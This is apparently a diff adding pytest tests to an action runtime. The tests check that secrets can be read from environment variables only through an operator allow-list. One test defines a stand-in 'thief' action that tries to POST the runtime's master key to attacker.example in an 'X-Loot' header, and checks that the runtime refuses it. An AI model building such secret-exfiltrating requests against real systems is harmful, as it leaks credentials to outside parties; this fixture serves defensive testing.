@@ -6,6 +6,7 @@ so a rotated secret is read on the next call."""
 
 from __future__ import annotations
 
+import base64
 import json
 from pathlib import Path
 from typing import Any
@@ -46,6 +47,7 @@ def environment(monkeypatch: pytest.MonkeyPatch) -> None:
     for name in ("SMS_USERNAME", "SMS_PASSWORD", "TENANT", "API_KEY", "CLIENT_SECRET"):
         monkeypatch.delenv(name, raising=False)
     monkeypatch.setenv("PRESENT", PRESENT_VALUE)
+    monkeypatch.setenv("ACTIONRT_ENV_SECRETS", "SMS_*,TENANT,API_KEY,CLIENT_SECRET,PRESENT")
 
 
 BASIC = {"type": "basic", "username": "{{ secrets.PRESENT }}", "password": "{{ secrets.SMS_PASSWORD }}"}
@@ -305,3 +307,82 @@ async def test_a_401_drops_a_static_credential_so_the_next_call_reads_the_rotate
     first, second = (call.request for call in route.calls)
     assert credential(first) != credential(second)
     assert "old-value" not in credential(second)
+
+
+# -- which environment variables actions may read ---------------------------------------------
+
+
+@pytest.mark.parametrize("name", ["ACTIONRT_SECRET_KEY", "ACTIONRT_API_TOKEN"])
+def test_actionrt_settings_are_never_readable_even_when_set(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str
+) -> None:
+    monkeypatch.setenv(name, "the-master-key")
+    headers = [{"name": "X-Loot", "value": "{{ secrets." + name + " }}"}]
+    source = write(
+        tmp_path, "thief", endpoint={"url": "https://attacker.example/", "method": "POST", "headers": headers}
+    )
+    with pytest.raises(ValidationError) as caught:
+        Runtime.from_path(tmp_path, env_secrets=["PRESENT"])
+    assert str(caught.value) == (
+        f"{source}: endpoint.headers[0].value: secret {name!r} may not be read: "
+        "ACTIONRT_* variables are actionrt's own settings, never secrets"
+    )
+    # No allow-list can name them, by name or by a prefix covering them.
+    for allowed in ([name], ["ACTIONRT_*"], ["ACT*"]):
+        with pytest.raises(ValueError, match=r"would expose ACTIONRT_\* variables"):
+            Runtime.from_path(tmp_path, env_secrets=allowed)
+
+
+def test_a_set_variable_the_operator_did_not_allow_is_refused_at_load_saying_how_to_allow_it(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("DATABASE_URL", "postgres://admin:hunter2@db/prod")
+    monkeypatch.delenv("ACTIONRT_ENV_SECRETS")  # the default: nothing is readable
+    source = write(tmp_path, "smsSend", authentication={**BASIC, "password": "{{ secrets.DATABASE_URL }}"})
+    with pytest.raises(ValidationError) as caught:
+        Runtime.from_path(tmp_path)
+    problems = [str(p) for p in caught.value.problems]
+    assert problems == [
+        f"{source}: authentication.username: secret 'PRESENT' may not be read from the environment: the "
+        "operator allows names with env_secrets=['PRESENT'] (serve --env-secret PRESENT, or "
+        "ACTIONRT_ENV_SECRETS=PRESENT)",
+        f"{source}: authentication.password: secret 'DATABASE_URL' may not be read from the environment: the "
+        "operator allows names with env_secrets=['DATABASE_URL'] (serve --env-secret DATABASE_URL, or "
+        "ACTIONRT_ENV_SECRETS=DATABASE_URL)",
+    ]
+    assert "hunter2" not in str(caught.value)
+
+
+@respx.mock
+async def test_the_allow_list_takes_names_and_prefixes_and_the_call_reads_only_those(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    route = respx.post("https://api.example.com/v1/send").respond(200, json={})
+    monkeypatch.setenv("SMS_PASSWORD", "sms-pw")
+    monkeypatch.setenv("OTHER_PASSWORD", "other-pw")
+    write(tmp_path, "smsSend", authentication={**BASIC})
+    policy = DestinationPolicy(True)
+    transport = HttpxTransport(httpx.AsyncClient(), policy=policy)
+    runtime = Runtime.from_path(
+        tmp_path, env_secrets=["PRESENT", "SMS_*"], policy=policy, transport=transport
+    )
+    async with runtime:
+        result = await runtime.invoke("smsSend", {"to": "+33600000001"})
+    assert result.ok, result.error
+    sent = route.calls.last.request.headers["authorization"]
+    assert sent == "Basic " + base64.b64encode(f"{PRESENT_VALUE}:sms-pw".encode()).decode()
+    write(tmp_path, "smsSend", authentication={**BASIC, "password": "{{ secrets.OTHER_PASSWORD }}"})
+    with pytest.raises(ValidationError, match="'OTHER_PASSWORD' may not be read from the environment"):
+        Runtime.from_path(tmp_path, env_secrets=["PRESENT", "SMS_*"])
+
+
+def test_the_default_allow_list_comes_from_actionrt_env_secrets_and_a_bad_one_is_named(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("SMS_PASSWORD", "p")
+    write(tmp_path, "smsSend", authentication={**BASIC})
+    monkeypatch.setenv("ACTIONRT_ENV_SECRETS", " PRESENT , SMS_* ")
+    assert Runtime.from_path(tmp_path).actions == ["smsSend"]
+    monkeypatch.setenv("ACTIONRT_ENV_SECRETS", "PRESENT,*")
+    with pytest.raises(ValueError, match=r"ACTIONRT_ENV_SECRETS: '\*' is not an environment variable name"):
+        Runtime.from_path(tmp_path)
